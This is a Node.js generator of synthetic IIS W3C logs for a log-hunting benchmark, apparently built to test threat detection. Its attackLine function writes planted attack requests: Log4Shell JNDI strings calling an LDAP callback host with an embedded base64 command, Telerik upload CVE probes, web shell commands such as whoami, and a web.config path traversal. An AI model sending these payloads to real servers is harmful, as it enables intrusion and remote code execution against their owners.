#!/usr/bin/env node
// Synthetic IIS W3C extended log generator for the `w3guard hunt` benchmark.
//
//   node bench/hunt/generate-log.mjs OUT.log [--bytes 1G] [--seed 1]
//
// or, from another script:
//
//   import { generateLog } from './generate-log.mjs';
//   const stats = await generateLog(path, { bytes: 200e6, seed: 1 });
//
// The output is deterministic for a given seed (same seed => same byte stream; a smaller size is a
// prefix of a larger one) and is written in ~1 MiB chunks with back-pressure, never held in memory.

import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { pathToFileURL } from 'node:url';

/** Bump when the output changes, so cached files under bench/out/ are regenerated. */
export const GENERATOR_VERSION = 3;

export const W3C_FIELDS =
  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';

const CHUNK_BYTES = 1 << 20;
const ATTACK_RATE = 1 / 200_000;

/** mulberry32: small, fast, good-enough deterministic PRNG; returns floats in [0, 1). */
function makeRng(seed) {
  let a = seed >>> 0 || 0x9e3779b9;
  return function rng() {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pad2 = Array.from({ length: 60 }, (_, i) => String(i).padStart(2, '0'));

/** Expands [[value, weight], …] into an array so a weighted pick is one index lookup. */
function weighted(pairs) {
  const out = [];
  for (const [value, weight] of pairs) for (let i = 0; i < weight; i++) out.push(value);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Static pools
// ---------------------------------------------------------------------------------------------

const SITES = [
  { host: 'www.contoso.com', sip: '10.20.1.11', ports: [443, 443, 443, 80] },
  { host: 'shop.contoso.com', sip: '10.20.1.12', ports: [443] },
  { host: 'mail.contoso.com', sip: '10.20.1.15', ports: [443] },
  { host: 'intranet.contoso.local', sip: '10.20.1.11', ports: [80, 443] },
];

const UA_RAW = weighted([
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 22],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80', 14],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0', 6],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15', 6],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1', 8],
  ['Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36', 7],
  ['Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko', 2],
  ['Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)', 1],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 3],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 2],
  ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 1],
  ['Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)', 3],
  ['Apple-iPhone15C2/2104.212', 2],
  ['Outlook-iOS/723.4027091.prod.iphone (4.2415.0)', 1],
  ['Microsoft-WNS/10.0', 1],
  ['curl/8.4.0', 1],
  ['python-requests/2.31.0', 1],
  ['okhttp/4.12.0', 1],
  ['Mozilla/5.0 zgrab/0.x', 1],
  ['-', 1],
]);
/** IIS writes spaces in header fields as `+`. */
const UAS = UA_RAW.map((ua) => ua.replaceAll(' ', '+'));
const MAIL_UAS = [
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.16130; Pro)',
  'Apple-iPhone15C2/2104.212',
  'Apple-iPad13C1/2104.212',
  'Outlook-iOS/723.4027091.prod.iphone (4.2415.0)',
  'Android-Mail/2024.03.17.619066281.Release',
  'ExchangeServicesClient/15.02.1544.004',
].map((ua) => ua.replaceAll(' ', '+'));

const EXTERNAL_REFERERS = weighted([
  ['https://www.google.com/', 6],
  ['https://www.bing.com/', 2],
  ['https://duckduckgo.com/', 1],
  ['https://www.google.com/search?q=contoso+order+status', 1],
  ['https://www.bing.com/search?q=contoso%20menu&form=QBLH', 1],
  ['https://teams.microsoft.com/', 1],
  ['https://login.microsoftonline.com/', 1],
]);

const FIRST_NAMES = ['jdoe', 'asmith', 'mgarcia', 'lchen', 'pkumar', 'ojohnson', 'rnguyen', 'kmuller', 'tsato', 'ebrown', 'swilson', 'dkowalski'];
const SEARCH_TERMS = [
  'laptop', 'caf%C3%A9', 'r%C3%A9sum%C3%A9', 'usb-c+cable', 'monitor%2027%22', 'na%C3%AFve', 'chair', 'red%20shoes', 'gift+card',
  '%E6%97%A5%E6%9C%AC', 'M%C3%BCller', 'desk', 'headset', 'paper', 'toner%2Bink', 'coffee',
];
const VERSIONS = ['1.0.3', '2.4.1', '3.2.0', '3.2.1', '20240311', '638471234567890123', 'b7c1f9e'];
const BUNDLE_HASHES = [
  'wBEWDufH_8Md-Pbioxomt90vm6tJN2Pyy9u9zHtWsPo1', 'AAbhZWWwnxN9WcLSmJm1bAC7DvDBDeO6zrgkNa3ZQEM1', 'ZSmwh8E3vVMhJp5pBgeI9MeIU7VtgHzmrO9oOFhWQEw1',
];
const WEBRESOURCE_D = [
  'pynGkmcFUV13He1Qd6_TZMnuN8h7SXNSTTGZ0IpBN-C8upcUlb6rZVPi4SWmC_BfHxHlHvLXGFaM0R-L7BaVdA2',
  'x2nkrMJGXkMELz33nwnakJ2uG4BEYeATjHy7qg_MxVBUYwXGbN9oS4HTRhb8DWv7XZe_8aYIPqABdQE-bJQCDg2',
  'fj5UOb7O4gvDE9h2BN9b2gvdSVhAGfSsEhy2WOeA8ON3uyiwsx9EabOG_PuAw-r-ZrwqSxMsk8jMrm-NlDbPbg2',
];

// ---------------------------------------------------------------------------------------------
// Request kinds: each returns [site, method, stem, query, statusKey, user, isPage]
// ---------------------------------------------------------------------------------------------

/** Status tuples "status substatus win32" and a time-taken profile. */
const STATUS = {
  page: weighted([
    ['200 0 0', 880], ['302 0 0', 40], ['304 0 0', 10], ['404 0 2', 25], ['500 0 0', 4], ['200 0 64', 8],
    ['200 0 995', 5], ['200 0 1236', 3], ['401 2 5', 10], ['403 14 0', 2], ['400 0 0', 3], ['503 0 0', 1],
  ]),
  static: weighted([['200 0 0', 660], ['304 0 0', 300], ['404 0 2', 25], ['200 0 64', 10], ['206 0 0', 3], ['301 0 0', 2]]),
  api: weighted([['200 0 0', 860], ['201 0 0', 30], ['204 0 0', 30], ['400 0 0', 20], ['404 0 0', 25], ['401 0 0', 20], ['500 0 0', 5], ['409 0 0', 5], ['429 0 0', 5]]),
  owa: weighted([['200 0 0', 760], ['302 0 0', 50], ['401 1 2148074254', 80], ['401 2 5', 40], ['440 0 0', 5], ['500 0 0', 3], ['200 0 64', 30], ['404 0 2', 5], ['200 0 995', 27]]),
  probe: weighted([['404 0 2', 80], ['404 0 0', 10], ['301 0 0', 5], ['403 14 0', 3], ['400 0 0', 2]]),
};

function buildPathPools(rng) {
  const int = (n) => (rng() * n) | 0;
  const pick = (arr) => arr[int(arr.length)];

  const staticPaths = [];
  for (const dir of ['/Content', '/Scripts', '/css', '/js', '/images', '/img', '/fonts', '/lib/bootstrap/dist/css', '/assets']) {
    for (const name of ['site', 'main', 'bootstrap.min', 'jquery-3.7.1.min', 'modernizr-2.8.3', 'app.bundle', 'vendor', 'theme', 'print', 'respond.min']) {
      const ext = dir.includes('css') || dir === '/Content' ? 'css' : dir.includes('img') || dir.includes('images') ? 'png' : dir === '/fonts' ? 'woff2' : 'js';
      staticPaths.push(`${dir}/${name}.${ext}`);
    }
  }
  for (let i = 0; i < 60; i++) staticPaths.push(`/images/products/${10000 + int(90000)}_${pick(['s', 'm', 'l', 'thumb'])}.${pick(['jpg', 'png', 'webp'])}`);
  staticPaths.push('/favicon.ico', '/apple-touch-icon.png', '/images/logo.svg', '/images/spinner.gif');

  const aspxPages = [
    '/default.aspx', '/Default.aspx', '/Products/ProductList.aspx', '/Products/ProductDetail.aspx', '/Cart/ShoppingCart.aspx',
    '/Checkout/Checkout.aspx', '/Account/Login.aspx', '/Account/Register.aspx', '/Account/MyAccount.aspx', '/Search.aspx',
    '/Reports/ReportViewer.aspx', '/Admin/Dashboard.aspx', '/Support/Contact.aspx', '/News/Article.aspx', '/Help/FAQ.aspx',
    '/HR/Timesheet.aspx', '/HR/LeaveRequest.aspx', '/Intranet/Directory.aspx',
  ];
  const mvcRoutes = [
    '/', '/Home/Index', '/Home/About', '/Home/Contact', '/Orders', '/Orders/Details/', '/Orders/Edit/', '/Customers/Details/',
    '/Customers/Edit/', '/Catalog/Category/', '/Catalog/Item/', '/Account/Manage', '/Account/LogOff', '/Blog/Post/', '/Invoices/Pdf/',
  ];
  const apiRoutes = ['/api/v1/orders/', '/api/v1/customers/', '/api/v2/products/', '/api/v1/cart', '/api/v1/session/refresh', '/api/v2/inventory/', '/api/health', '/api/v1/search', '/api/v1/notifications'];
  return { staticPaths, aspxPages, mvcRoutes, apiRoutes };
}

function buildIpPool(rng, size) {
  const int = (n) => (rng() * n) | 0;
  const firstOctets = [20, 23, 31, 37, 40, 45, 51, 52, 62, 66, 70, 71, 73, 77, 78, 79, 80, 81, 82, 84, 85, 86, 88, 89, 90, 91, 92, 93, 94, 95, 98, 99, 104, 107, 108, 109, 151, 154, 157, 159, 162, 163, 164, 167, 173, 176, 178, 185, 188, 193, 194, 195, 197, 198, 199, 203, 207, 208, 212, 213, 216, 217];
  const pool = [];
  for (let i = 0; i < size; i++) {
    const r = rng();
    if (r < 0.12) pool.push(`10.${int(4) + 10}.${int(40)}.${1 + int(250)}`);
    else if (r < 0.15) pool.push(`2001:db8:${(int(0xffff)).toString(16)}:${(int(0xffff)).toString(16)}::${(1 + int(0xfff)).toString(16)}`);
    else pool.push(`${firstOctets[int(firstOctets.length)]}.${int(256)}.${int(256)}.${1 + int(254)}`);
  }
  return pool;
}

// ---------------------------------------------------------------------------------------------
// Generator
// ---------------------------------------------------------------------------------------------

/**
 * Writes a synthetic IIS W3C log of at least `bytes` bytes (stopping at the first line end past it).
 * @param {string} path
 * @param {{ bytes?: number, seed?: number, startDate?: string }} [options]
 * @returns {Promise<{ path: string, bytes: number, lines: number, dataLines: number, headerLines: number, restarts: number, attackLines: number, percentLines: number, firstTime: string, lastTime: string, seed: number, generatorVersion: number }>}
 */
export async function generateLog(path, { bytes = 1024 ** 3, seed = 1, startDate = '2024-03-01T00:00:00Z' } = {}) {
  if (!Number.isFinite(bytes) || bytes <= 0) throw new Error(`generateLog: bad size ${bytes}`);
  const rng = makeRng(seed);
  const int = (n) => (rng() * n) | 0;
  const pick = (arr) => arr[(rng() * arr.length) | 0];

  const { staticPaths, aspxPages, mvcRoutes, apiRoutes } = buildPathPools(rng);
  const ips = buildIpPool(rng, 3000);
  const kinds = weighted([['static', 40], ['aspx', 16], ['mvc', 14], ['api', 14], ['axd', 5], ['probe', 1], ['misc', 1]]);

  // Clock: epoch seconds, strictly increasing by >= 1 s per line.
  let epoch = Math.floor(Date.parse(startDate) / 1000);
  let dayKey = -1;
  let dateStr = '';
  const dateOf = (sec) => new Date(sec * 1000).toISOString().slice(0, 10);
  const clock = (sec) => {
    const day = Math.floor(sec / 86400);
    if (day !== dayKey) {
      dayKey = day;
      dateStr = dateOf(sec);
    }
    const s = sec - day * 86400;
    return `${dateStr} ${pad2[(s / 3600) | 0]}:${pad2[((s % 3600) / 60) | 0]}:${pad2[s % 60]}`;
  };
  let nextRestart = epoch; // first header block immediately
  const firstTime = clock(epoch);

  // Visitor state: a visitor loads a page then its assets, so lines come in small bursts.
  let vIp = '';
  let vUa = '';
  let vSite = SITES[0];
  let vUser = '-';
  let vLastPage = '-';

  const out = createWriteStream(path, { highWaterMark: CHUNK_BYTES * 2 });
  const failed = new Promise((_, reject) => out.once('error', reject));
  failed.catch(() => {});

  let written = 0;
  let lines = 0;
  let headerLines = 0;
  let restarts = 0;
  let attackLines = 0;
  let percentLines = 0;
  let chunk = '';
  let lastClock = firstTime;

  const flush = async () => {
    if (chunk.length === 0) return;
    const buf = Buffer.from(chunk, 'latin1');
    chunk = '';
    if (!out.write(buf)) await Promise.race([once(out, 'drain'), failed]);
  };

  const newVisitor = () => {
    const r = rng();
    vIp = ips[(ips.length * r * r) | 0]; // skewed: a few heavy hitters, a long tail
    vUa = pick(UAS);
    vSite = SITES[int(SITES.length)];
    if (vSite.host.startsWith('mail.') && rng() < 0.5) vUa = pick(MAIL_UAS);
    vUser = '-';
    vLastPage = rng() < 0.55 ? '-' : pick(EXTERNAL_REFERERS);
  };
  newVisitor();

  const attackLine = (ts) => {
    const kind = int(6);
    const ip = `${pick([45, 89, 185, 193, 194, 5])}.${int(256)}.${int(256)}.${1 + int(254)}`;
    const cb = `${int(256)}.${int(256)}.${int(256)}.${1 + int(254)}`;
    const s = SITES[int(2)];
    switch (kind) {
      case 0: // Log4Shell in the user agent
        return `${ts} ${s.sip} GET / - 443 - ${ip} \${jndi:ldap://${cb}:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==} - 200 0 0 ${5 + int(40)}`;
      case 1: // Log4Shell, percent-encoded, in the query string
        return `${ts} ${s.sip} GET /api/v1/search q=%24%7Bjndi:ldap://${cb}:1389/a%7D&page=1 443 - ${ip} Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 400 0 0 ${3 + int(20)}`;
      case 2: // Telerik RadAsyncUpload (CVE-2019-18935 / CVE-2017-11317)
        return `${ts} ${s.sip} POST /Telerik.Web.UI.WebResource.axd type=rau 443 - ${ip} python-requests/2.31.0 - 200 0 0 ${40 + int(400)}`;
      case 3: { // Web shell access
        const shell = pick(['/aspnet_client/system_web/shell.aspx', '/cmd.aspx', '/aspnet_client/system_web/4_0_30319/cmd.aspx', '/owa/auth/errorFE.aspx']);
        return `${ts} ${shell.startsWith('/owa') ? SITES[2].sip : s.sip} ${pick(['GET', 'POST'])} ${shell} ${pick(['-', 'cmd=whoami', 'c=ipconfig+%2Fall'])} 443 - ${ip} Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:109.0)+Gecko/20100101+Firefox/115.0 - 200 0 0 ${100 + int(900)}`;
      }
      case 4: // Path traversal to web.config
        return `${ts} ${s.sip} GET /Download.aspx file=..%2f..%2fweb.config 443 - ${ip} Mozilla/5.0+zgrab/0.x - 500 0 0 ${10 + int(50)}`;
      default: // Log4Shell in the referer (plain) with a trailing probe
        return `${ts} ${s.sip} GET /Account/Login.aspx - 443 - ${ip} curl/7.88.1 \${jndi:dns://${cb}/x} 200 0 0 ${8 + int(60)}`;
    }
  };

  while (written < bytes) {
    // Simulated restart / daily log roll-over: a fresh header block.
    if (epoch >= nextRestart) {
      const hdr = `#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: ${clock(epoch)}\n#Fields: ${W3C_FIELDS}\n`;
      chunk += hdr;
      written += hdr.length;
      lines += 4;
      headerLines += 4;
      restarts++;
      nextRestart = epoch + 20 * 3600 + int(8 * 3600); // every ~day (20-28 h)
    }

    // Time strictly increasing: mostly 1 s apart, with quieter stretches (nights) further apart.
    const hourOfDay = ((epoch % 86400) / 3600) | 0;
    epoch += 1 + (hourOfDay < 6 ? int(4) : rng() < 0.1 ? int(3) : 0);
    const ts = clock(epoch);
    lastClock = ts;

    let line;
    if (rng() < ATTACK_RATE) {
      line = attackLine(ts);
      attackLines++;
    } else {
      if (rng() < 0.3) newVisitor();
      const site = vSite;
      const port = site.ports[int(site.ports.length)];
      let method = 'GET';
      let stem;
      let query = '-';
      let status;
      let taken;
      let isPage = false;
      const kind = site.host.startsWith('mail.') ? (rng() < 0.75 ? 'owa' : 'static') : pick(kinds);
      switch (kind) {
        case 'static': {
          stem = pick(staticPaths);
          const r = rng();
          if (r < 0.5) query = `v=${pick(VERSIONS)}`;
          else if (r < 0.6) { stem = pick(['/bundles/jquery', '/bundles/bootstrap', '/bundles/modernizr', '/Content/css']); query = `v=${pick(BUNDLE_HASHES)}`; }
          status = pick(STATUS.static);
          taken = int(rng() < 0.9 ? 16 : 250);
          break;
        }
        case 'aspx': {
          stem = pick(aspxPages);
          isPage = true;
          const r = rng();
          if (stem === '/Account/Login.aspx') query = rng() < 0.6 ? `ReturnUrl=%2f${pick(['default.aspx', 'Account%2fMyAccount.aspx', 'Admin%2fDashboard.aspx', 'Cart%2fShoppingCart.aspx'])}` : '-';
          else if (stem === '/Search.aspx') query = `q=${pick(SEARCH_TERMS)}&page=${1 + int(5)}`;
          else if (r < 0.35) query = `id=${1 + int(50000)}`;
          else if (r < 0.5) query = `cat=${1 + int(40)}&page=${1 + int(12)}&sort=${pick(['price', 'name', 'newest'])}`;
          if (rng() < 0.18) method = 'POST';
          status = pick(STATUS.page);
          taken = 15 + int(rng() < 0.9 ? 300 : 4000);
          break;
        }
        case 'mvc': {
          stem = pick(mvcRoutes);
          isPage = true;
          if (stem.endsWith('/') && stem.length > 1) stem += String(1 + int(250000));
          if (rng() < 0.15) query = `returnUrl=%2F${pick(['Orders', 'Customers%2FEdit%2F42', 'Home%2FIndex'])}`;
          else if (rng() < 0.1) query = `tab=${pick(['history', 'invoices', 'settings'])}`;
          if (rng() < 0.12) method = 'POST';
          status = pick(STATUS.page);
          taken = 10 + int(rng() < 0.9 ? 250 : 3000);
          break;
        }
        case 'api': {
          stem = pick(apiRoutes);
          if (stem.endsWith('/')) stem += String(1 + int(900000));
          if (stem === '/api/v1/search') query = `term=${pick(SEARCH_TERMS)}&limit=${pick([10, 20, 50])}`;
          else if (rng() < 0.3) query = `page=${1 + int(30)}&pageSize=${pick([10, 25, 50, 100])}&_=${1709251200000 + int(1e9)}`;
          const r = rng();
          method = r < 0.7 ? 'GET' : r < 0.88 ? 'POST' : r < 0.96 ? 'PUT' : 'DELETE';
          status = pick(STATUS.api);
          taken = 3 + int(rng() < 0.92 ? 120 : 2500);
          break;
        }
        case 'owa': {
          const r = rng();
          if (r < 0.25) {
            stem = '/owa/service.svc';
            query = `action=${pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems', 'SubscribeToNotification', 'GetOwaUserConfiguration'])}&ID=-${1 + int(300)}&AC=1`;
            method = 'POST';
          } else if (r < 0.4) {
            stem = '/Microsoft-Server-ActiveSync/default.eas';
            query = `Cmd=${pick(['Sync', 'Ping', 'FolderSync', 'GetItemEstimate'])}&User=${pick(FIRST_NAMES)}${rng() < 0.5 ? '%40contoso.com' : ''}&DeviceId=${(1e9 + int(9e9)).toString(36).toUpperCase()}&DeviceType=${pick(['iPhone', 'Android', 'Outlook'])}`;
            method = 'POST';
          } else if (r < 0.55) {
            stem = '/EWS/Exchange.asmx';
            method = 'POST';
          } else if (r < 0.6) {
            stem = '/owa/auth/logon.aspx';
            query = `url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=${int(3)}`;
          } else if (r < 0.72) {
            stem = pick(['/owa/', '/owa/auth.owa', '/owa/auth/15.2.1544/themes/resources/favicon.ico', '/owa/prem/15.2.1544.4/scripts/boot.worldwide.0.mouse.js']);
          } else if (r < 0.8) {
            stem = pick(['/ecp/', '/ecp/default.aspx', '/ecp/PersonalSettings/HomePage.aspx', '/ecp/DDI/DDIService.svc/GetList']);
            query = rng() < 0.5 ? `showhelp=false&msExchEcpCanary=${(int(2 ** 30)).toString(16)}${(int(2 ** 30)).toString(16)}` : '-';
          } else if (r < 0.9) {
            stem = '/mapi/emsmdb/';
            query = `mailboxId=${(int(2 ** 30)).toString(16)}-${(int(65535)).toString(16)}@contoso.com`;
            method = 'POST';
          } else {
            stem = pick(['/autodiscover/autodiscover.xml', '/Autodiscover/Autodiscover.xml', '/oab/', '/rpc/rpcproxy.dll']);
            // Outlook Anywhere uses the RPC_IN_DATA/RPC_OUT_DATA verbs (rare on modern Exchange).
            method = stem.startsWith('/rpc') ? (rng() < 0.2 ? pick(['RPC_IN_DATA', 'RPC_OUT_DATA']) : 'POST') : stem.startsWith('/oab') ? 'GET' : 'POST';
          }
          if (vUser === '-' && rng() < 0.5) vUser = rng() < 0.5 ? `CONTOSO\\${pick(FIRST_NAMES)}` : `${pick(FIRST_NAMES)}@contoso.com`;
          status = pick(STATUS.owa);
          taken = 5 + int(rng() < 0.85 ? 200 : rng() < 0.8 ? 5000 : 120000);
          break;
        }
        case 'axd': {
          const r = rng();
          if (r < 0.45) {
            stem = '/WebResource.axd';
            query = `d=${pick(WEBRESOURCE_D)}&t=${638000000000000000 + int(4e8)}`;
          } else if (r < 0.75) {
            stem = '/ScriptResource.axd';
            query = `d=${pick(WEBRESOURCE_D)}&t=${pick(['ffffffffda74082d', '13f47f54', '2a9d95e3'])}`;
          } else {
            stem = '/Telerik.Web.UI.WebResource.axd';
            query = rng() < 0.6
              ? `_TSM_HiddenField_=ctl00_RadScriptManager1_TSM&compress=1&_TSM_CombinedScripts_=%3b%3bSystem.Web.Extensions%2c+Version%3d4.0.0.0%2c+Culture%3dneutral%2c+PublicKeyToken%3d31bf3856ad364e35%3aen-US`
              : `type=${pick(['iec', 'sh'])}&tabid=${int(50)}`;
          }
          status = pick(STATUS.static);
          taken = int(rng() < 0.9 ? 30 : 400);
          break;
        }
        case 'probe': {
          stem = pick(['/wp-login.php', '/.env', '/xmlrpc.php', '/phpmyadmin/index.php', '/.git/config', '/admin/config.php', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/solr/admin/info/system', '/actuator/health', '/boaform/admin/formLogin']);
          status = pick(STATUS.probe);
          taken = int(20);
          break;
        }
        default: {
          stem = pick(['/robots.txt', '/sitemap.xml', '/favicon.ico', '/healthcheck.aspx', '/.well-known/security.txt', '/crossdomain.xml']);
          status = rng() < 0.8 ? '200 0 0' : '404 0 2';
          taken = int(12);
        }
      }
      const referer = kind === 'static' || kind === 'axd' ? (vLastPage === '-' ? `https://${site.host}/` : vLastPage) : vLastPage;
      const user = kind === 'owa' ? vUser : rng() < 0.01 ? `CONTOSO\\${pick(FIRST_NAMES)}` : '-';
      line = `${ts} ${site.sip} ${method} ${stem} ${query} ${port} ${user} ${vIp} ${vUa} ${referer} ${status} ${taken}`;
      if (isPage && method === 'GET') vLastPage = `https://${site.host}${stem}${query === '-' ? '' : `?${query}`}`;
    }
    if (line.includes('%')) percentLines++;
    chunk += line;
    chunk += '\n';
    written += line.length + 1;
    lines++;
    if (chunk.length >= CHUNK_BYTES) await flush();
  }
  await flush();
  out.end();
  await Promise.race([once(out, 'finish'), failed]);

  return {
    path,
    bytes: written,
    lines,
    dataLines: lines - headerLines,
    headerLines,
    restarts,
    attackLines,
    percentLines,
    firstTime,
    lastTime: lastClock,
    seed,
    generatorVersion: GENERATOR_VERSION,
  };
}

/** Parses sizes such as `1G`, `1GiB`, `200M`, `500MB`, `1048576` (K/M/G/T are binary: 1M = 2^20). */
export function parseSize(text) {
  const m = /^\s*(\d+(?:\.\d+)?)\s*([kmgt]?)(i?b?)\s*$/i.exec(String(text));
  if (!m) throw new Error(`cannot parse size "${text}" (examples: 200M, 1G, 1GiB, 1048576)`);
  const mult = { '': 1, k: 2 ** 10, m: 2 ** 20, g: 2 ** 30, t: 2 ** 40 }[m[2].toLowerCase()];
  return Math.round(Number(m[1]) * mult);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const args = process.argv.slice(2);
  let out;
  let bytes = 1024 ** 3;
  let seed = 1;
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    const [flag, inline] = a.split('=', 2);
    const value = () => inline ?? args[++i];
    if (flag === '--bytes') bytes = parseSize(value());
    else if (flag === '--seed') seed = Number(value());
    else if (flag === '-h' || flag === '--help') {
      console.log('usage: node bench/hunt/generate-log.mjs OUT.log [--bytes 1G] [--seed 1]');
      process.exit(0);
    } else if (!a.startsWith('-') && out === undefined) out = a;
    else {
      console.error(`unknown argument: ${a}`);
      process.exit(2);
    }
  }
  if (out === undefined) {
    console.error('usage: node bench/hunt/generate-log.mjs OUT.log [--bytes 1G] [--seed 1]');
    process.exit(2);
  }
  const t0 = process.hrtime.bigint();
  const stats = await generateLog(out, { bytes, seed });
  const secs = Number(process.hrtime.bigint() - t0) / 1e9;
  console.log(JSON.stringify({ ...stats, seconds: +secs.toFixed(2), mbPerSec: +(stats.bytes / 1e6 / secs).toFixed(1) }, null, 2));
}
